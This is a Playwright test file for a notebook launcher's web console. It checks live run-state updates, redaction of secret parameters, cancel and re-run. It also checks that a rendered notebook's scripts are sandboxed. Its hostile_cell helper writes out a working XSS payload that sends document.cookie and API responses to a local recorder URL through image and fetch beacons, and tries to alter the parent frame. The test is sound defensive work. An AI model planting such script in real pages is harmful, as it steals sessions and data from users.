"""The console's pages in a real headless Chromium: live updates, a failed run, cancel,
re-run, and an executed notebook whose scripts must not run in the console's origin."""

from __future__ import annotations

import http.server
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

pytest.importorskip("playwright")
from playwright.sync_api import expect

from notebook_launcher.localservice.embedded import EmbeddedService
from tests.functional.ui.conftest import (
    Launch,
    ensure_stopped,
    wait_for_state,
    write_notebook,
)

NOTEBOOKS = Path(__file__).resolve().parents[2] / "fixtures" / "notebooks"


def test_the_runs_list_shows_a_launched_run_and_its_state_changes_without_a_reload(
    local_service: EmbeddedService, page: Any, launch: Launch, tmp_path: Path
) -> None:
    page.goto(local_service.console_page("runs"))
    assert page.locator("h1").inner_text() == "Job runs"
    page.evaluate("window.__sameDocument = 'still here'")  # a reload would drop it
    # The run is held IN_PROGRESS until the marker exists: the page must show a state that
    # lasts, not one a poll may or may not catch on a loaded machine.
    marker = tmp_path / "go"
    held = (
        f"import pathlib, time\nwhile not pathlib.Path({str(marker)!r}).exists():\n"
        "    time.sleep(0.1)"
    )
    notebook = write_notebook(tmp_path / "held.ipynb", held, "print('ok')")
    run_id = launch(notebook, "--run-name", "live-row")["id"]
    state = page.locator(f'tr[data-run-id="{run_id}"] .state')
    try:
        page.wait_for_selector(f'tr[data-run-id="{run_id}"]', timeout=30_000)
        wait_for_state(local_service, run_id, {"IN_PROGRESS"}, timeout=240)
        expect(state).to_have_text("IN_PROGRESS", timeout=60_000)
        marker.touch()
        expect(state).to_have_text("SUCCEEDED", timeout=120_000)  # it changed while open
        assert page.evaluate("window.__sameDocument") == "still here"
        row = page.locator(f'tr[data-run-id="{run_id}"]')
        assert "live-row" in row.inner_text()
    finally:
        marker.touch()
        ensure_stopped(local_service, run_id)


def test_a_failed_runs_page_shows_the_failing_cell_redacted_parameters_and_reruns(
    local_service: EmbeddedService, page: Any, launch: Launch
) -> None:
    answer = launch(
        NOTEBOOKS / "fails.ipynb",
        "--param",
        'region="apac"',
        "--param",
        'api_token="s3cret-value-123"',
    )
    run_id = answer["id"]
    assert wait_for_state(local_service, run_id, {"FAILED", "SUCCEEDED"}).lifecycle_state == (
        "FAILED"
    )
    page.goto(local_service.console_page(f"runs/{run_id}"))
    assert page.locator("#run-state").inner_text() == "FAILED"
    failure = page.locator("#failure")
    assert "ValueError" in failure.inner_text()
    assert "the notebook failed on purpose" in failure.inner_text()
    assert page.locator("#failing-cell").inner_text().strip() == (
        'raise ValueError("the notebook failed on purpose")'
    )
    content = page.content()
    assert "s3cret-value-123" not in content
    parameters = page.locator("table.kv").first.inner_text()
    assert "region" in parameters and "apac" in parameters
    assert "api_token" in parameters and "<redacted>" in parameters
    assert "before the failure" in page.locator("#log").inner_text()
    files = page.locator("#files").inner_text()
    assert "fails.ipynb" in files
    # the executed notebook is rendered, in the sandboxed frame
    frame = page.frame_locator("#notebook")
    assert "the notebook failed on purpose" in frame.locator("body").inner_text(timeout=30_000)
    # re-run with the same values
    page.click("#rerun")
    page.wait_for_url(lambda url: "/ui/runs/" in url and run_id not in url, timeout=30_000)
    new_id = page.url.rsplit("/", 1)[1]
    try:
        client = local_service.datascience_client()
        old, new = client.get_job_run(run_id).data, client.get_job_run(new_id).data
        assert new.job_id == old.job_id and new.display_name == old.display_name
        old_env = old.job_configuration_override_details.environment_variables
        new_env = new.job_configuration_override_details.environment_variables
        assert new_env == old_env and "s3cret-value-123" in new_env["NOTEBOOK_PARAMETERS"]
    finally:
        ensure_stopped(local_service, new_id)


def test_cancel_works_from_the_page(
    local_service: EmbeddedService, page: Any, launch: Launch
) -> None:
    run_id = launch(NOTEBOOKS / "sleeps.ipynb")["id"]
    try:
        page.goto(local_service.console_page(f"runs/{run_id}"))
        # (expect, not wait_for_function: the console's CSP forbids the eval that needs)
        expect(page.locator("#run-state")).to_have_text("IN_PROGRESS", timeout=60_000)
        expect(page.locator("#log")).to_contain_text("helper pid=", timeout=60_000)  # live tail
        page.click("#cancel")
        expect(page.locator("#run-state")).to_have_text("CANCELED", timeout=60_000)
        run = local_service.datascience_client().get_job_run(run_id).data
        assert run.lifecycle_state == "CANCELED"
        assert page.locator("#cancel").count() == 0
    finally:
        ensure_stopped(local_service, run_id)


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Records every request; serves /control.html (the notebook page with no protection)."""

    hits: list[str]
    control: bytes

    def do_GET(self) -> None:
        if self.path == "/control.html":
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(self.control)
            return
        self.hits.append(self.path)
        self.send_response(204)
        self.send_header("access-control-allow-origin", "*")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def recorder() -> Iterator[tuple[str, type[_Recorder]]]:
    handler = type("Recorder", (_Recorder,), {"hits": [], "control": b""})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", handler
    finally:
        server.shutdown()
        server.server_close()


def hostile_cell(exfil: str) -> str:
    script = f"""
var report = function (what, value) {{
  new Image().src = "{exfil}/" + what + "?v=" + encodeURIComponent(value);
  fetch("{exfil}/" + what + "-fetch?v=" + encodeURIComponent(value), {{mode: "no-cors"}});
}};
report("cookie", document.cookie);
fetch("/ui/api/runs").then(function (r) {{ return r.text(); }})
  .then(function (t) {{ report("api", t.slice(0, 200)); }},
        function (e) {{ report("api-error", e); }});
try {{ parent.document.body.setAttribute("data-pwned", "1"); }}
catch (e) {{ report("parent", e); }}
try {{ top.document.title = "pwned"; }} catch (e) {{ report("top", e); }}
"""
    onerror = f'<img src=x onerror="new Image().src=`{exfil}/onerror`">'
    plain = f'<img src="{exfil}/plain-img">'
    tag = "<script>" + script + "</script>"
    return (
        "from IPython.display import HTML, display\n"
        "print('hostile notebook rendered')\n"
        f"display(HTML({tag!r}))\n"
        f"display(HTML({onerror!r}))\n"
        f"display(HTML({plain!r}))\n"
    )


def test_a_notebook_script_cannot_read_the_cookie_or_call_the_api(
    local_service: EmbeddedService,
    page: Any,
    browser: Any,
    launch: Launch,
    tmp_path: Path,
    recorder: tuple[str, type[_Recorder]],
) -> None:
    exfil, handler = recorder
    notebook = write_notebook(tmp_path / "hostile.ipynb", hostile_cell(exfil))
    run_id = launch(notebook)["id"]
    assert wait_for_state(local_service, run_id, {"SUCCEEDED", "FAILED"}).lifecycle_state == (
        "SUCCEEDED"
    )
    console = local_service.console_page(f"runs/{run_id}")

    page.goto(console)
    frame = page.frame_locator("#notebook")
    assert "hostile notebook rendered" in frame.locator("body").inner_text(timeout=30_000)
    page.wait_for_timeout(2000)
    assert page.evaluate("document.body.getAttribute('data-pwned')") is None
    assert page.title() != "pwned"
    # opened directly, outside the frame, the CSP sandbox header still stops it
    page.goto(f"{local_service.endpoint}/ui/untrusted/runs/{run_id}/notebook")
    assert "hostile notebook rendered" in page.locator("body").inner_text()
    page.wait_for_timeout(2000)
    assert handler.hits == []

    # Control: the same page served without the console's protections does run the script,
    # so the checks above would see an attack that worked.
    token = local_service.console_url.partition("?token=")[2]
    handler.control = httpx.get(
        f"{local_service.endpoint}/ui/untrusted/runs/{run_id}/notebook",
        headers={"authorization": f"Bearer {token}"},
    ).content
    control = browser.new_page()
    try:
        control.goto(f"{exfil}/control.html")
        deadline = time.monotonic() + 10
        while not any(h.startswith("/cookie") for h in handler.hits):
            assert time.monotonic() < deadline, handler.hits
            control.wait_for_timeout(100)
        assert any(h.startswith("/plain-img") for h in handler.hits)
    finally:
        control.close()
